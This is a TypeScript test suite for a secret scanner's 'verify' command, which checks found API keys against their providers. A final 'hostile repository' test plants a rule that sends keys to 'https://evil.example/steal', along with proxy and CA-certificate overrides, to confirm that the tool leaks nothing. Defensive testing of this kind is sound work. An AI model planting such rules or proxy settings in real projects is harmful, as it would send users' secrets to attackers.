import { createServer } from 'node:http'
import { PassThrough } from 'node:stream'
import { describe, expect, it } from 'vitest'
import { DEFAULTS } from '../../src/commands/options.ts'
import { verify } from '../../src/commands/verify.ts'
import { keyOf } from '../support/keys.ts'
import { cleanEnv, type FindingJson, Repo } from '../support/repo.ts'
import { keysieveAsync, listen, vendors } from '../support/vendors.ts'

const GROQ = 'api.groq.com'
const OPENROUTER = 'openrouter.ai'

type Found = FindingJson & { readonly live?: string }

describe('keysieve verify', () => {
  it('asks each provider once a key, and puts what is live on top', async () => {
    const [live, dead] = [keyOf('openrouter-key'), keyOf('groq-api-key')]
    const world = await vendors([GROQ, OPENROUTER], ({ host }, response) => {
      response.writeHead(host === OPENROUTER ? 200 : 401).end('a body that nobody shows')
    })
    const repo = new Repo().commit({
      'a.env': `GROQ_API_KEY=${dead}\n`,
      'b.env': `OPENROUTER_API_KEY=${live}\n`,
      'c.env': `OPENROUTER_API_KEY=${live}\n`,
    })
    const text = await keysieveAsync(repo.root, ['verify', '--yes'], world.env)
    expect(text.status).toBe(1)
    expect(text.stdout.split('\n')[0]).toMatch(/^b\.env:1:20: LIVE: blocked: /)
    expect(text.stdout.match(/LIVE: its provider accepts it, certain/g)).toHaveLength(2)
    expect(text.stdout).toContain('dead: its provider refuses it')
    expect(text.stdout + text.stderr).not.toContain('nobody shows')
    expect(text.stderr).toContain('2 keys to ask about')
    expect(text.stderr).toContain(`  ${OPENROUTER}  1 key (OpenRouter)`)
    expect(text.stderr).toContain('asked about 2 keys: 1 live, 1 dead, 0 unknown')
    expect(text.stderr).toContain('3 findings, 2 LIVE')
    expect(world.asked.sort()).toEqual([`${GROQ}:443`, `${OPENROUTER}:443`])
    expect(world.heard.map(({ host, method, url }) => `${method} ${host}${url}`).sort()).toEqual([
      `GET ${GROQ}/openai/v1/models`,
      `GET ${OPENROUTER}/api/v1/key`,
    ])
    const json = await keysieveAsync(repo.root, ['verify', '--yes', '--format', 'json'], world.env)
    const { findings } = JSON.parse(json.stdout) as { findings: Found[] }
    expect(findings.map(({ path, live, confidence }) => [path, live, confidence])).toEqual([
      ['a.env', 'dead', findings[0]!.confidence],
      ['b.env', 'live', 'certain'],
      ['c.env', 'live', 'certain'],
    ])
  })

  it('asks a pair only when its other half stands in the same file, and reads the words of a body', async () => {
    const [slack, twilio, shop] = [keyOf('slack-bot-token'), keyOf('twilio-auth-token'), keyOf('shopify-access-token')]
    const account = `AC${'0a1b2c3d'.repeat(4)}`
    const world = await vendors(['slack.com', 'api.twilio.com', 'my-shop.myshopify.com'], ({ host }, response) =>
      response
        .writeHead(host === 'my-shop.myshopify.com' ? 403 : 200, { 'content-type': 'application/json' })
        .end('{"ok": false, "error": "token_revoked"}'),
    )
    const repo = new Repo().commit({
      'slack.env': `SLACK_BOT_TOKEN=${slack}\n`,
      'twilio.env': `TWILIO_ACCOUNT_SID=${account}\nTWILIO_AUTH_TOKEN=${twilio}\n`,
      'shop.env': `# see https://help.myshopify.com\nSHOP=my-shop.myshopify.com\nSHOPIFY_TOKEN=${shop}\n`,
      'alone.env': `SHOPIFY_TOKEN=${keyOf('shopify-access-token', 12)}\n`,
    })
    const run = await keysieveAsync(repo.root, ['verify', '--yes', '--format', 'json'], world.env)
    const { findings } = JSON.parse(run.stdout) as { findings: Found[] }
    expect(findings.filter(({ severity }) => severity !== 'low').map(({ path, live }) => [path, live])).toEqual([
      ['alone.env', undefined],
      ['shop.env', 'live'],
      ['slack.env', 'dead'],
      ['twilio.env', 'live'],
    ])
    expect(run.stderr).toContain('1 key not to ask about: the account or host')
    expect(world.heard.map(({ method, host, url }) => `${method} ${host}${url}`).sort()).toEqual([
      `GET api.twilio.com/2010-04-01/Accounts/${account}.json`,
      'GET my-shop.myshopify.com/admin/api/2025-01/shop.json',
      'POST slack.com/api/auth.test',
    ])
    const basic = world.heard.find(({ host }) => host === 'api.twilio.com')!.headers.authorization
    expect(Buffer.from(basic!.slice('Basic '.length), 'base64').toString()).toBe(`${account}:${twilio}`)
  })

  it('asks about the history too, and of files that are gone', async () => {
    const world = await vendors([GROQ, 'my-shop.myshopify.com'], (_, response) => response.writeHead(200).end())
    const repo = new Repo()
      .commit({ 'a.env': `GROQ_API_KEY=${keyOf('groq-api-key')}\n` })
      .commit({ 'a.env': `SHOP=my-shop.myshopify.com\nSHOPIFY_TOKEN=${keyOf('shopify-access-token')}\n` })
      .commit({ 'a.env': 'nothing\n' })
    const tree = await keysieveAsync(repo.root, ['verify', '--yes'], world.env)
    expect([tree.status, world.asked]).toEqual([0, []])
    const history = await keysieveAsync(repo.root, ['verify', '--history', '--yes'], world.env)
    expect(history.stderr).toContain('asked about 2 keys: 2 live, 0 dead, 0 unknown')
    expect(history.status).toBe(1)
    const both = await keysieveAsync(repo.root, ['verify', '--history', '--yes', 'a.env'], world.env)
    expect([both.status, both.stderr]).toEqual([2, expect.stringContaining('--history goes without paths')])
  })

  it('raises what is live to certain, and asks about a maybe only when told to', async () => {
    const world = await vendors(['api.github.com'], (_, response) => response.writeHead(200).end('{}'))
    // A checksum that fails makes a maybe of it.
    const token = keyOf('github-token')
    const wrong = token.slice(0, -1) + (token.endsWith('A') ? 'B' : 'A')
    const repo = new Repo().commit({ 'a.txt': `token: ${wrong}\n` })
    const usual = await keysieveAsync(repo.root, ['verify', '--yes', '--format', 'json'], world.env)
    const before = (JSON.parse(usual.stdout) as { findings: Found[] }).findings
    expect(before.map(({ rule, confidence, live }) => [rule, confidence, live])).toEqual([
      ['github-token', 'maybe', undefined],
    ])
    expect(usual.stderr).toContain('1 key not to ask about: too unsure whose they are (--ask maybe asks all the same)')
    expect([usual.status, world.asked]).toEqual([0, []])
    const told = await keysieveAsync(repo.root, ['verify', '--yes', '--ask', 'maybe', '--format', 'json'], world.env)
    const after = (JSON.parse(told.stdout) as { findings: Found[] }).findings
    expect(after.map(({ confidence, live, blocking }) => [confidence, live, blocking])).toEqual([
      ['certain', 'live', true],
    ])
    expect(told.status).toBe(1)
  })

  it('does not ask about what the repository allows, nor about what no built-in rule found', async () => {
    const key = keyOf('groq-api-key')
    const world = await vendors([GROQ], (_, response) => response.writeHead(200).end())
    const repo = new Repo().commit({ 'a.env': `GROQ_API_KEY=${key} # keysieve:allow groq-api-key an old one\n` })
    const run = await keysieveAsync(repo.root, ['verify', '--yes'], world.env)
    expect([run.status, world.asked]).toEqual([0, []])
    const strict = await keysieveAsync(repo.root, ['verify', '--yes', '--strict'], world.env)
    expect([strict.status, world.asked]).toEqual([1, [`${GROQ}:443`]])
  })
})

describe('before anything is sent', () => {
  const scene = async () => {
    const world = await vendors([GROQ], (_, response) => response.writeHead(401).end())
    return { world, repo: new Repo().commit({ 'a.env': `GROQ_API_KEY=${keyOf('groq-api-key')}\n` }) }
  }

  it('--dry-run shows the hosts and counts, and asks nothing', async () => {
    const { world, repo } = await scene()
    const run = await keysieveAsync(repo.root, ['verify', '--dry-run'], world.env)
    expect(run).toEqual({
      status: 0,
      stdout: '',
      stderr: [
        'keysieve: 1 key to ask about, each at its own provider over TLS:',
        `keysieve:   ${GROQ}  1 key (Groq)`,
        'keysieve: nothing was asked (--dry-run)',
        '',
      ].join('\n'),
    })
    expect(world.asked).toEqual([])
  })

  it('without a terminal it wants --yes', async () => {
    const { world, repo } = await scene()
    const run = await keysieveAsync(repo.root, ['verify'], world.env)
    expect([run.status, run.stdout]).toEqual([2, ''])
    expect(run.stderr).toContain('there is no terminal to ask on; nothing was asked\n')
    expect(run.stderr).toContain('keysieve verify --yes asks without a question')
    expect(world.asked).toEqual([])
  })

  it('asks nothing, and no question either, where there is nothing to ask about', async () => {
    const repo = new Repo().commit({ 'a.txt': 'nothing\n' })
    const run = await keysieveAsync(repo.root, ['verify'], {})
    expect([run.status, run.stdout]).toEqual([0, ''])
  })

  it.each([
    ['n\n', 0],
    ['', 0],
    ['y\n', 2],
  ])('on a terminal the answer %j counts', async (given, code) => {
    const repo = new Repo().commit({ 'a.env': `GROQ_API_KEY=${keyOf('groq-api-key')}\n` })
    let said = ''
    const output = { write: (text: string) => void (said += text), isTTY: true }
    const stdin = Object.assign(new PassThrough(), { isTTY: true })
    stdin.end(given)
    // A proxy that is not there: whoever is asked cannot be reached.
    const env = cleanEnv({ HTTPS_PROXY: 'http://127.0.0.1:9' })
    const io = {
      cwd: repo.root,
      env,
      stdin,
      stdout: output,
      stderr: output,
      onInterrupt: () => {},
      now: () => 0,
      program: '',
      node: '',
    }
    const options = { ...DEFAULTS, paths: [], history: false, yes: false, dryRun: false, ask: 'likely' as const }
    expect(await verify(io, options)).toBe(code)
    expect(said).toContain('send each key to its own provider, as listed? [y/N] ')
    expect(said.includes('nothing was asked')).toBe(code === 0)
    expect(said.includes('api.groq.com (ECONNREFUSED)')).toBe(code === 2)
  })
})

describe('a hostile repository', () => {
  it('sends nothing anywhere with rules, config or files of its own', async () => {
    const heard: string[] = []
    const listener = createServer((request, response) => {
      heard.push(request.url ?? '')
      response.end()
    })
    const port = await listen(listener)
    const world = await vendors([GROQ, 'evil.example'], (_, response) => response.writeHead(200).end())
    const ask = `GET https://evil.example/steal`
    const rules = (id: string, request = ask): string =>
      [
        'provider: Evil',
        'rules:',
        `  - id: ${id}`,
        '    title: Evil',
        '    severity: critical',
        '    priority: 9',
        '    literals: [gsk_, wk_]',
        "    pattern: '(?<secret>(?:gsk_|wk_)[A-Za-z0-9]{20,60})'",
        "    sample: 'wk_{base62:30}'",
        '    remedy: none',
        `    verify: { request: '${request}', auth: bearer, live: [200], dead: [401] }`,
      ].join('\n')
    const secret = `wk_${keyOf('groq-api-key').slice(-30)}`
    const repo = new Repo().commit({
      '.keysieve.yml': 'rule-files: [evil.yml]\n',
      'evil.yml': rules('evil-key'),
      'own.yml': rules('groq-api-key'),
      'local.yml': rules('local-key', `GET http://127.0.0.1:${port}/steal`),
      '.env': `HTTPS_PROXY=http://127.0.0.1:${port}\nNODE_EXTRA_CA_CERTS=evil.pem\n`,
      'a.env': `GROQ_API_KEY=${keyOf('groq-api-key')}\nWEIRD=${secret}\nHOST=api.groq.com.evil.example 127.0.0.1:${port}\n`,
    })
    repo.git('config', 'http.proxy', `http://127.0.0.1:${port}`)
    const run = await keysieveAsync(repo.root, ['verify', '--yes'], world.env)
    expect(run.stdout).toContain('[evil-key]')
    const replaced = await keysieveAsync(repo.root, ['verify', '--yes', '--rules', 'own.yml'], world.env)
    expect(replaced.stdout + replaced.stderr).toContain('no safe question is known')
    const plain = await keysieveAsync(repo.root, ['verify', '--yes', '--rules', 'local.yml'], world.env)
    expect([plain.status, plain.stderr]).toEqual([2, expect.stringContaining('expected GET, POST or HEAD and https')])
    expect(heard).toEqual([])
    expect(world.asked.filter((target) => target !== `${GROQ}:443`)).toEqual([])
    expect(world.heard.every(({ host }) => host === GROQ)).toBe(true)
    for (const piece of [secret, keyOf('groq-api-key')])
      for (const { stdout, stderr } of [run, replaced, plain])
        for (let at = 4; at + 8 <= piece.length; at++)
          expect((stdout + stderr).includes(piece.slice(at, at + 8))).toBe(false)
  })
})

it('rules explain names the host that is asked', () => {
  const run = new Repo().run(['rules', 'explain', 'groq-api-key'])
  expect(run.stdout).toContain(
    'verify      GET https://api.groq.com/openai/v1/models (asked by `keysieve verify` alone)',
  )
})
